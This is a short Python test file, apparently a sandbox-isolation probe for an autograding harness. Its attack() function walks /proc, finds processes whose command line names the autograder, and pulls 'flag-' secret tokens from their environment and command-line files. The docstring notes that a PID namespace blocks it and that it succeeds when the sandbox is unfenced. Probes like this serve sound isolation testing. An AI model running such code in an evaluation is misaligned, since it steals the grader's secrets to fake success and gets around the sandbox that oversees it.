"""Looks for secrets in the environments and commands of the grader's processes.

stopped by: pid namespace
unfenced: succeeds
"""
# %%
import glob
import re


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def attack():
    ours = [folder for folder in glob.glob("/proc/[0-9]*") if b"autograder" in read(folder + "/cmdline")]
    return [found for folder in ours for name in ("environ", "cmdline") for found in re.findall(b"flag-[0-9a-f]{32}", read(f"{folder}/{name}"))]
